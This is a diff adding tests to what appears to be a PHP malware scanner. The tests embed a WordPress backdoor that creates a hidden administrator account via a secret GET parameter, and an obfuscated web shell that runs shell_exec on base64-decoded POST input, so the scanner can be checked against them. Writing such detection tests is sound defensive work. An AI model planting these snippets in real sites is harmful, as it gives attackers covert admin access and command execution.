@@ -199,3 +199,27 @@ def test_downloading_a_zip_to_a_temp_file_is_not_running_it():
     src = (b"<?php $z = file_get_contents('https://downloads.example/plugin.zip');\n"
            b"$t = tempnam(sys_get_temp_dir(), 'p'); file_put_contents($t, $z); $zip->open($t);")
     assert found(src) == set()
+
+
+def test_hidden_administrator_creator():
+    src = (b"<?php add_action('init', function () { if (isset($_GET['k']) && $_GET['k'] === 'x1') {\n"
+           b"  $id = wp_create_user('support', 'pw', 's@mailbox.example'); $u = new WP_User($id);\n"
+           b"  $u->set_role('administrator'); } });")
+    assert 'php.backdoor.admin_account' in found(src)
+
+
+def test_admin_page_creating_an_administrator_checks_capabilities():
+    src = (b"<?php function add_admin() { if (!current_user_can('create_users')) return;\n"
+           b"  $id = wp_create_user($_POST['login'], $_POST['pass'], $_POST['mail']);\n"
+           b"  (new WP_User($id))->set_role('administrator'); }")
+    assert 'php.backdoor.admin_account' not in found(src)
+
+
+def test_reflection_call_by_built_name():
+    src = (b"<?php $n = strrev('cexe_llehs'); $rf = new ReflectionFunction($n);\n"
+           b"$out = $rf->invokeArgs(array(base64_decode($_POST['al'])));")
+    assert 'php.exec.request_input' in rules_of(src)
+
+
+def rules_of(src):
+    return {f.rule for f in analysis.Analysis(src).run().findings}
